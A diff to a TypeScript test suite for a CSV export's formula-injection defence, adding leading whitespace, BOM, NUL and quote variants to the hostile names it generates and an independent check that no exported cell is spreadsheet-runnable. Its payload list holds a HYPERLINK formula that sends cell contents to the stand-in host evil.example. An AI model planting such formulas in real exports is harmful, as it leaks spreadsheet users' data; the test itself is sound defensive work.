@@ -24,6 +24,8 @@ const tmp = tempDir('bijotel-csv-injection-')
 afterAll(() => tmp.cleanup())
 
 const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '==', '=-', '@@', ' =', '\t=', '\r\n=']
+/** What an importer may trim or drop before a formula character (spaces, NBSP, BOM, NUL, quotes). */
+const LEADERS = [' ', '  ', '\n', '\u00a0', '\ufeff', '\0', '"', ' "', '\u2003', '\r\n ']
 const PAYLOADS = [
   'HYPERLINK("http://evil.example/?leak="&A1,"click")',
   'SUM(1,2)',
@@ -36,7 +38,18 @@ const PAYLOADS = [
 
 /** Every prefix before every payload: the names a hostile writer could give providers and models. */
 export function hostileNames(): string[] {
-  return PREFIXES.flatMap((p) => PAYLOADS.map((x) => p + x)).filter((s) => s !== '')
+  const led = LEADERS.flatMap((l) => ['=', '+', '-', '@'].map((f) => l + f + PAYLOADS[0]!))
+  return [...PREFIXES.flatMap((p) => PAYLOADS.map((x) => p + x)), ...led].filter((s) => s !== '')
+}
+
+/**
+ * The oracle, apart from the code's own regex: a cell a spreadsheet may run — it starts with a tab,
+ * CR or NUL, or does once an importer trims white space, NUL and double quotes off its start. A
+ * cell starting with `'` is text (the neutraliser).
+ */
+function runnable(cell: string): boolean {
+  if (cell.startsWith("'")) return false
+  return /^[\t\r\0]/.test(cell) || /^[=+\-@]/.test(cell.replace(/^[\s\0"\u00a0\ufeff]+/u, ''))
 }
 
 /** RFC 4180 parse of `text` into rows of cells (quoted cells may hold commas, quotes and newlines). */
@@ -162,6 +175,7 @@ function checkCells(csv: string, written: Set<string>): number {
   for (const row of rows.slice(1)) {
     for (const cell of row) {
       expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false)
+      expect(runnable(cell), JSON.stringify(cell)).toBe(false)
       if (cell.startsWith("'") && written.has(cell.slice(1))) restored++
     }
   }
@@ -174,6 +188,7 @@ describe('the cell encoder', () => {
       const enc = csvCell(v)
       const back = parseCsv(enc + '\r\n')[0]?.[0] ?? ''
       expect(FORMULA_START.test(back), JSON.stringify(v)).toBe(false)
+      expect(runnable(back), JSON.stringify(v)).toBe(false)
       expect(back).toBe(FORMULA_START.test(v) ? `'${v}` : v)
     }
   })
